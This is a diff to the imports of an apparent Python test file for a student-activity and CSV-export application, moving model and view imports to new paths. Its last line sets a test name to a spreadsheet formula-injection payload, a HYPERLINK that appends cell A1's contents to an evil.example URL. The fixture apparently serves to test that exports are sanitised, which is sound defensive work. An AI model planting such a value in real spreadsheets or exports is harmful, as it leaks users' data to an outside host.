@@ -13,9 +13,10 @@ from sqlalchemy import select, update
 from lib.access import User
 from lib.cli import main as cli
 from lib.export import activity_csv
-from lib.models import DailyActivity, Flag, Load, StaffUser, Student
-from lib.queries import cohort_csv, from_params
 from lib.sar import write_subject_access_export
+from lib.store.models import DailyActivity, Flag, Load, StaffUser, Student
+from lib.views.cohort import cohort_csv
+from lib.views.filters import from_params
 from tests.app_fixtures import seed
 
 NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
